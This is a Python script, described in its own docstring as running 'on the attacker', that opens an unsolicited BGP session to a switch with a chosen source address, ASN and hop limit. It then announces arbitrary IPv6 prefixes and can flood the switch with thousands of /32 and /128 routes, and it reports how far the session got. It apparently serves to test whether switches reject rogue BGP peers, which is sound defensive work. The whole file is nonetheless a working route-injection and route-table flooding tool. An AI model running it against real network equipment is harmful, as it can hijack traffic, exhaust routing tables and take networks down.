"""Runs on the attacker: opens its own BGP session with a switch, from an address and with a hop limit of
choice, says OPEN, announces, and reports how far it came.

usage: bgp_speaker.py 'JSON'   source, target (link-local), device, asn, hops, prefixes (IPv6), seconds,
                               flood (so many /32 and so many /128 as fast as the switch takes them)
answers one JSON line: {"reached": "refused|silent|connected|open|established", "detail": …}
"""

import ipaddress
import json
import socket
import struct
import sys
import time


def message(kind, body=b""):
    return b"\xff" * 16 + struct.pack("!HB", 19 + len(body), kind) + body


def opening(asn):
    capabilities = bytes([1, 4, 0, 1, 0, 1, 1, 4, 0, 2, 0, 1, 65, 4]) + struct.pack("!I", asn)
    parameters = bytes([2, len(capabilities)]) + capabilities
    return message(1, struct.pack("!BHH4sB", 4, asn if asn < 65536 else 23456, 9, bytes([10, 66, 66, 66]), len(parameters)) + parameters)


def update(asn, next_hop, prefix):
    network = ipaddress.ip_network(prefix)
    reach = struct.pack("!HBB", 2, 1, 16) + ipaddress.ip_address(next_hop).packed + b"\0"
    reach += bytes([network.prefixlen]) + network.network_address.packed[:(network.prefixlen + 7) // 8]
    path = bytes([2, 1]) + struct.pack("!I", asn)
    attributes = bytes([0x40, 1, 1, 0, 0x40, 2, len(path)]) + path + bytes([0x80, 14, len(reach)]) + reach
    return message(2, struct.pack("!HH", 0, len(attributes)) + attributes)


def flood(asn, next_hop, count):
    """Packed full messages: 10.64.0.0 upwards and fd10:f::0 upwards."""
    path = bytes([0x40, 1, 1, 0, 0x40, 2, 6, 2, 1]) + struct.pack("!I", asn)
    for first in range(0, count, 700):
        batch = range(first, min(first + 700, count))
        networks = b"".join(b"\x20" + struct.pack("!I", (10 << 24 | 64 << 16) + n) for n in batch)
        attributes = path + bytes([0x40, 3, 4, 10, 66, 66, 66])
        yield message(2, struct.pack("!HH", 0, len(attributes)) + attributes + networks)
    for first in range(0, count, 220):
        batch = range(first, min(first + 220, count))
        reach = struct.pack("!HBB", 2, 1, 16) + ipaddress.ip_address(next_hop).packed + b"\0"
        reach += b"".join(b"\x80" + bytes.fromhex("fd10000f") + struct.pack("!QI", 0, n) for n in batch)
        attributes = path + struct.pack("!BBH", 0x90, 14, len(reach)) + reach
        yield message(2, struct.pack("!HH", 0, len(attributes)) + attributes)


def announce(wire, want):
    for prefix in want.get("prefixes", []):
        wire.send(update(want["asn"], want["source"], prefix))
    begun = time.monotonic()
    for count, data in enumerate(flood(want["asn"], want["source"], want.get("flood", 0))):
        wire.sendall(data)
        if count % 50 == 0:
            wire.send(message(4))
    return time.monotonic() - begun


def receive(wire):
    head = b""
    while len(head) < 19:
        more = wire.recv(19 - len(head))
        if not more:
            return None, b""
        head += more
    length, kind = struct.unpack("!HB", head[16:])
    body = b""
    while len(body) < length - 19:
        more = wire.recv(length - 19 - len(body))
        if not more:
            return None, b""
        body += more
    return kind, body


def speak(want):
    wire = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, want["device"].encode())
    wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, want.get("hops", 255))
    wire.settimeout(want.get("seconds", 5))
    scope = socket.if_nametoindex(want["device"])
    wire.bind((want["source"], 0, 0, scope))
    reached, detail = "silent", ""
    try:
        wire.connect((want["target"], 179, 0, scope))
        reached = "connected"
        wire.send(opening(want["asn"]))
        end = time.monotonic() + want.get("seconds", 5)
        while time.monotonic() < end:
            kind, body = receive(wire)
            if kind is None:
                return reached, detail + "closed by the switch"
            if kind == 3:
                return reached, detail + f"notification {body[0]}/{body[1]}"
            if kind == 1:
                reached = "open"
                wire.send(message(4))
            if kind == 4:
                if reached != "established":
                    reached = "established"
                    detail = f"announced in {announce(wire, want):.1f} s, "
                wire.send(message(4))
        return reached, detail + "still open at the end"
    except ConnectionRefusedError as error:
        return "refused", str(error)
    except OSError as error:
        return reached, detail + str(error)


reached, detail = speak(json.loads(sys.argv[1]))
print(json.dumps({"reached": reached, "detail": detail}))
